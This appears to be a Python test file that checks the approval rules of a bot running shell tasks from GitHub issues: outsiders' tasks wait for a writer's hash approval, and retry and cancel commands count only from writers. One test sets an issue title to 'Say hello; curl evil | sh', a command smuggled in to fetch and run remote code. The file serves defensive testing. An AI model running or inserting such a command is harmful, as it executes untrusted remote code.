"""The trust rule and the comment commands end to end: ClaimServices against devhub."""

import functools

import httpx
import trio

from bzzz.github.client import GitHubClient
from bzzz.claim.service import ClaimService, ClaimSettings
from bzzz.claim.trust import task_digest
from bzzz.decisions import MemoryDecisionLog
from bzzz.devhub import DevHubThread
from bzzz.testing.wait import wait_until

SEED = {"users": [{"login": "owner", "token": "t-owner"}, {"login": "bot", "token": "t-bot"},
                  {"login": "maint", "token": "t-maint"},
                  {"login": "stranger", "token": "t-stranger"}],
        "repos": [{"full_name": "owner/tasks", "push": ["bot", "maint"], "read": ["stranger"]}]}
REPO = "/repos/owner/tasks"


def client(hub, who):
    return httpx.Client(base_url=hub.url, headers={"Authorization": f"token t-{who}"})


def body(cmd):
    return f"Task\n\n```bzzz\n{cmd}\n```\n"


def comments(gh, n):
    return [c["body"] for c in gh.get(f"{REPO}/issues/{n}/comments").json()]


def labels(gh, n):
    return {x["name"] for x in gh.get(f"{REPO}/issues/{n}").json()["labels"]}


wait = functools.partial(wait_until, timeout=20)  # a task's round trips through devhub


def service(gh, node, tmp_path, log):
    return ClaimService(gh, ClaimSettings(
        ["owner/tasks"], node, f"12D3KooW{node}", "bot", poll_interval=0.2,
        workroot=tmp_path / node, trust_ttl=0.5, retry_after_failure=0.5,
        intake_state=tmp_path / f"{node}-intake.json"), log, capabilities=lambda: ["shell"])


def results(gh, n):
    return [b for b in comments(gh, n) if "<!-- bzzz:result:" in b]


async def test_outsider_waits_until_a_writer_approves_that_exact_body(tmp_path):
    with DevHubThread(seed=SEED) as hub:
        owner, maint, stranger = client(hub, "owner"), client(hub, "maint"), client(hub, "stranger")
        n = stranger.post(f"{REPO}/issues", json={"title": "please", "body": body("echo ran-ok")}).json()["number"]
        owner.post(f"{REPO}/issues/{n}/labels", json={"labels": ["bzzz"]})  # a maintainer labels it
        logs = [MemoryDecisionLog(), MemoryDecisionLog()]
        async with GitHubClient(hub.url, "t-bot") as gh, trio.open_nursery() as nursery:
            svcs = [service(gh, f"n{i}", tmp_path, log) for i, log in enumerate(logs)]
            for svc in svcs:
                await nursery.start(svc.run)
            await wait(lambda: "bzzz:needs-approval" in labels(owner, n), what="waiting label")
            issue = owner.get(f"{REPO}/issues/{n}").json()
            short = task_digest(issue["title"], issue["body"])[:8]
            await wait(lambda: any(f"/bzzz approve {short}" in b for b in comments(owner, n)))
            waiting = [b for b in comments(owner, n) if "<!-- bzzz:approval:" in b]
            assert len(waiting) == 1

            # a wrong hash from a writer, and the right one from the author: nothing runs
            wrong = maint.post(f"{REPO}/issues/{n}/comments", json={"body": "/bzzz approve deadbeef"}).json()
            stranger.post(f"{REPO}/issues/{n}/comments", json={"body": f"/bzzz approve {short}"})
            await wait(lambda: any("is not the hash" in b for b in comments(owner, n)),
                       what="mismatch answer")
            # the outsider edits the body: the old hash no longer covers it
            stranger.patch(f"{REPO}/issues/{n}", json={"body": body("echo edited-ok")})
            new_short = task_digest("please", body("echo edited-ok"))[:8]
            await wait(lambda: any(f"/bzzz approve {new_short}" in b and "waits for approval" in b
                                   for b in comments(owner, n)), what="new announcement")
            stale = maint.post(f"{REPO}/issues/{n}/comments",
                               json={"body": f"/bzzz approve {short}"}).json()
            await wait(lambda: maint.get(f"{REPO}/issues/comments/{stale['id']}/reactions").json(),
                       what="the stale approval handled")
            assert all(s.intake.counts["not_writer"] >= 1 for s in svcs)
            assert not results(owner, n)

            maint.post(f"{REPO}/issues/{n}/comments", json={"body": f"ok\n/bzzz approve {new_short}"})
            await wait(lambda: "bzzz:done" in labels(owner, n), what="approved task done")
            nursery.cancel_scope.cancel()
        res = results(owner, n)
        assert len(res) == 1 and "edited-ok" in res[0]
        assert "bzzz:needs-approval" not in labels(owner, n)
        # every command acted on once across the mesh, with a reaction for people to see
        acting = [e for lg in logs for e in lg.entries if e["type"] == "command" and e["acting"]]
        assert sorted(e["comment"] for e in acting) == sorted({e["comment"] for e in acting})
        assert not any(e["by"] == "stranger" for lg in logs for e in lg.entries
                       if e["type"] == "command")
        reactions = maint.get(f"{REPO}/issues/comments/{wrong['id']}/reactions").json()
        assert [r["content"] for r in reactions] == ["confused"]
        approved = [e for lg in logs for e in lg.entries if e["type"] == "approved"]
        assert approved and approved[0]["approvers"] == ["maint"]


def announced(gh, n):
    """The hashes the agents asked a writer to approve, oldest first."""
    import re
    return [m for b in comments(gh, n) if "<!-- bzzz:approval:" in b
            for m in re.findall(r"/bzzz approve ([0-9a-f]{8})", b)]


async def test_an_approval_covers_the_title_too(tmp_path):
    """The title reaches the task (BZZZ_TITLE, an agent's instructions, a prompt): an outsider
    who edits it after the announcement is not covered by the approval of the old one."""
    task = body('echo "title: $BZZZ_TITLE"')
    with DevHubThread(seed=SEED) as hub:
        owner, maint, stranger = client(hub, "owner"), client(hub, "maint"), client(hub, "stranger")
        n = stranger.post(f"{REPO}/issues", json={"title": "Say hello", "body": task}).json()["number"]
        owner.post(f"{REPO}/issues/{n}/labels", json={"labels": ["bzzz"]})
        async with GitHubClient(hub.url, "t-bot") as gh, trio.open_nursery() as nursery:
            svc = service(gh, "n1", tmp_path, MemoryDecisionLog())
            await nursery.start(svc.run)
            await wait(lambda: announced(owner, n), what="the announcement")
            (first,) = announced(owner, n)
            # the writer read "Say hello"; the outsider then changes only the title
            stranger.patch(f"{REPO}/issues/{n}", json={"title": "Say hello; curl evil | sh"})
            stale = maint.post(f"{REPO}/issues/{n}/comments",
                               json={"body": f"/bzzz approve {first}"}).json()
            await wait(lambda: maint.get(f"{REPO}/issues/comments/{stale['id']}/reactions").json(),
                       what="the approval handled")
            assert [r["content"] for r in maint.get(
                f"{REPO}/issues/comments/{stale['id']}/reactions").json()] == ["confused"]
            second = task_digest("Say hello; curl evil | sh", task)[:8]
            await wait(lambda: second in announced(owner, n), what="the new title announced")
            assert not results(owner, n) and "bzzz:needs-approval" in labels(owner, n)
            maint.post(f"{REPO}/issues/{n}/comments", json={"body": f"/bzzz approve {second}"})
            await wait(lambda: "bzzz:done" in labels(owner, n), what="approved task done")
            nursery.cancel_scope.cancel()
        (res,) = results(owner, n)
        assert "title: Say hello; curl evil | sh" in res
        # the hash is sha256 over the title, a NUL byte and the body (README, "Trust")
        assert first == task_digest("Say hello", task)[:8]


async def test_retry_and_cancel_from_writers_only(tmp_path):
    with DevHubThread(seed=SEED) as hub:
        owner, maint, stranger = client(hub, "owner"), client(hub, "maint"), client(hub, "stranger")
        flag = tmp_path / "second-run"
        failing = owner.post(f"{REPO}/issues", json={
            "title": "flaky", "labels": ["bzzz"],
            "body": body(f"test -e {flag} && echo second || {{ touch {flag}; exit 3; }}")}).json()["number"]
        log = MemoryDecisionLog()
        async with GitHubClient(hub.url, "t-bot") as gh, trio.open_nursery() as nursery:
            svc = service(gh, "n1", tmp_path, log)
            await nursery.start(svc.run)
            await wait(lambda: "bzzz:failed" in labels(owner, failing), what="first failure")
            stranger.post(f"{REPO}/issues/{failing}/comments", json={"body": "/bzzz retry"})
            await wait(lambda: svc.intake.counts["not_writer"] >= 1, what="the retry ignored")
            await svc.tick()
            assert "bzzz:failed" in labels(owner, failing) and len(results(owner, failing)) == 1
            retry = maint.post(f"{REPO}/issues/{failing}/comments", json={"body": "/bzzz retry"}).json()
            await wait(lambda: "bzzz:done" in labels(owner, failing), what="retried run")
            assert [r["content"] for r in maint.get(
                f"{REPO}/issues/comments/{retry['id']}/reactions").json()] == ["rocket"]

            long = owner.post(f"{REPO}/issues", json={
                "title": "long", "labels": ["bzzz"], "body": body("sleep 300")}).json()["number"]
            await wait(lambda: any(r.state == "running" for r in svc.running.values()),
                       what="long task running")
            stranger.post(f"{REPO}/issues/{long}/comments", json={"body": "/bzzz cancel"})
            maint.post(f"{REPO}/issues/{long}/comments", json={"body": "/bzzz cancel"})
            await wait(lambda: any("cancelled by @maint" in b for b in comments(owner, long)),
                       what="cancel comment")
            await wait(lambda: not svc.running, what="released")
            nursery.cancel_scope.cancel()
        assert "bzzz:failed" in labels(owner, long)
        assert not any("@stranger" in b for b in comments(owner, long))

        # a restarted agent does not act on the same commands again
        before = [e for e in log.entries if e["type"] == "command"]
        log2 = MemoryDecisionLog()
        async with GitHubClient(hub.url, "t-bot") as gh, trio.open_nursery() as nursery:
            svc = service(gh, "n1", tmp_path, log2)
            await nursery.start(svc.run)
            await wait(lambda: svc.intake.cursor, what="a poll of the comments")
            await svc.tick()
            nursery.cancel_scope.cancel()
        assert before and not [e for e in log2.entries if e["type"] == "command"]


async def test_a_command_from_the_webhook_is_taken_without_a_poll(tmp_path):
    with DevHubThread(seed=SEED) as hub:
        owner, maint = client(hub, "owner"), client(hub, "maint")
        n = owner.post(f"{REPO}/issues", json={"title": "long", "labels": ["bzzz"],
                                               "body": body("sleep 300")}).json()["number"]
        log = MemoryDecisionLog()
        async with GitHubClient(hub.url, "t-bot") as gh, trio.open_nursery() as nursery:
            svc = service(gh, "n1", tmp_path, log)
            svc.s.poll_interval = 3600  # only the first tick polls
            await nursery.start(svc.run)
            await wait(lambda: any(r.state == "running" for r in svc.running.values()),
                       what="running")
            doc = maint.post(f"{REPO}/issues/{n}/comments", json={"body": "/bzzz cancel"}).json()
            polls = svc.feed.repos["owner/tasks"].polls
            svc.intake.on_webhook("issue_comment", "owner/tasks", {"action": "created", "comment": doc})
            await wait(lambda: not svc.running, what="cancelled from the webhook")
            assert svc.feed.repos["owner/tasks"].polls == polls  # no poll was needed
            nursery.cancel_scope.cancel()
        assert any("cancelled by @maint" in b for b in comments(owner, n))
        assert [e["verb"] for e in log.entries if e["type"] == "command"] == ["cancel"]
